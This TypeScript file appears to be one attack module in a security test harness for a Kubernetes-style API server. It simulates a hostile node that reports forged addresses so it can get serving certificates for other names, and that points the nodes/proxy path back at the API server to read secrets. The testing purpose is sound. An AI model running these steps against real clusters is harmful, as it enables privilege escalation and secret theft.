/**
 * A node that means harm: it reports names and addresses of others and asks for certificates for them, and it makes the
 * API server dial itself, with the API server's own credentials, for a user who may only reach nodes.
 */

import { newKeyPair } from '../../../src/pki/key-pair.ts';
import { makeSigningRequest } from '../../../src/pki/signing-request.ts';
import { type Attack, codesText } from '../attack.ts';
import type { AttackedServer } from '../attacked-server.ts';

/** How long a request may stay undecided after one that is decided, before it counts as refused. */
const waitMs = 20;
const roundsMax = 500;

const asNode = { 'impersonate-user': 'system:node:evil', 'impersonate-group': 'system:nodes' };
const csr = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const rbac = '/apis/rbac.authorization.k8s.io/v1';
const node = '/api/v1/nodes/evil';
const names = ['kubernetes.default.svc', 'kubernetes', 'localhost', '*', '*.example.com', 'victim'];
const addresses = ['127.0.0.1', '::1', '0.0.0.0', '10.96.0.1', '192.0.2.1'];

const statusPatch = { 'content-type': 'application/merge-patch+json' };
const portOf = (url: string): number => Number(new URL(url).port);

async function report(server: AttackedServer, status: object): Promise<void> {
  const headers = { ...asNode, ...statusPatch };
  await server.ask('admin', `${node}/status`, { method: 'PATCH', headers, body: { status } });
}

/** Asks for a serving certificate, as the node. */
async function ask(server: AttackedServer, name: string, host: string): Promise<number> {
  const subject = { commonName: 'system:node:evil', organizations: ['system:nodes'] };
  const request = Buffer.from(makeSigningRequest(newKeyPair(), subject, [host])).toString('base64');
  const body = {
    metadata: { name },
    spec: {
      request,
      signerName: 'kubernetes.io/kubelet-serving',
      usages: ['digital signature', 'server auth'],
    },
  };
  return (await server.ask('admin', csr, { method: 'POST', headers: asNode, body })).status;
}

async function isSigned(server: AttackedServer, name: string): Promise<boolean> {
  const { text } = await server.askLocally(`${csr}/${name}`);
  return (JSON.parse(text) as { status?: { certificate?: string } }).status?.certificate !== undefined;
}

/** Requests are decided in their order: when that for the node's own name is signed, those before it are decided. */
async function certificates(server: AttackedServer, codes: number[]): Promise<string[]> {
  const hosts = [...names, ...addresses];
  await report(server, {
    addresses: hosts.map((address) => ({ type: address.includes('.') ? 'InternalIP' : 'Hostname', address })),
  });
  for (const [at, host] of hosts.entries()) codes.push(await ask(server, `evil-${at}`, host));
  codes.push(await ask(server, 'evil-own', 'evil'));
  for (let round = 0; round < roundsMax && !(await isSigned(server, 'evil-own')); round++)
    await new Promise((resolve) => setTimeout(resolve, waitMs));
  const got: string[] = [];
  for (const [at, host] of hosts.entries())
    if (await isSigned(server, `evil-${at}`)) got.push(`a node gets a certificate for ${host}`);
  return got;
}

/** The user may reach nodes, and nothing else. */
async function letProxy(server: AttackedServer, method: 'POST' | 'DELETE'): Promise<void> {
  const metadata = { name: 'evil-proxy' };
  const rules = [{ apiGroups: [''], resources: ['nodes/proxy'], verbs: ['*'] }];
  const roleRef = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'evil-proxy' };
  const subjects = [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: server.nameOf('nobody') }];
  const at = method === 'POST' ? '' : '/evil-proxy';
  await server.askLocally(`${rbac}/clusterroles${at}`, { method, body: { metadata, rules } });
  await server.askLocally(`${rbac}/clusterrolebindings${at}`, {
    method,
    body: { metadata, roleRef, subjects },
  });
}

async function doors(server: AttackedServer, codes: number[]): Promise<string[]> {
  const got: string[] = [];
  for (const address of ['127.0.0.1', 'localhost', '::ffff:127.0.0.1'])
    for (const Port of [server.secureUrl, server.url ?? server.secureUrl].map(portOf)) {
      await report(server, {
        addresses: [{ type: 'InternalIP', address }],
        daemonEndpoints: { kubeletEndpoint: { Port } },
      });
      for (const target of ['evil', `https:evil:${Port}`, `evil:${Port}`]) {
        const { status, text } = await server.ask('nobody', `/api/v1/nodes/${target}/proxy/api/v1/secrets`);
        codes.push(status);
        if (status < 400) got.push(`nodes/proxy reads secrets at ${address}`);
        // An answer of a door to a user who is not the one that asked.
        else if (/User \\?"(?!nobody|system:serviceaccount:default:attack-nobody)/.test(text))
          got.push(`nodes/proxy reaches a door at ${address}`);
      }
    }
  return got;
}

export const attack: Attack = {
  name: 'a hostile node',
  run: async (server) => {
    const codes: number[] = [];
    const made = { method: 'POST', headers: asNode, body: { metadata: { name: 'evil' } } };
    await server.ask('admin', '/api/v1/nodes', made);
    await letProxy(server, 'POST');
    const gotIn = [...(await certificates(server, codes)), ...(await doors(server, codes))];
    await letProxy(server, 'DELETE');
    const requests = [...names, ...addresses].map((_, at) => `evil-${at}`);
    for (const name of [...requests, 'evil-own'])
      await server.askLocally(`${csr}/${name}`, { method: 'DELETE' });
    await server.askLocally(node, { method: 'DELETE' });
    return { gotIn: [...new Set(gotIn)], says: codesText(codes) };
  },
};
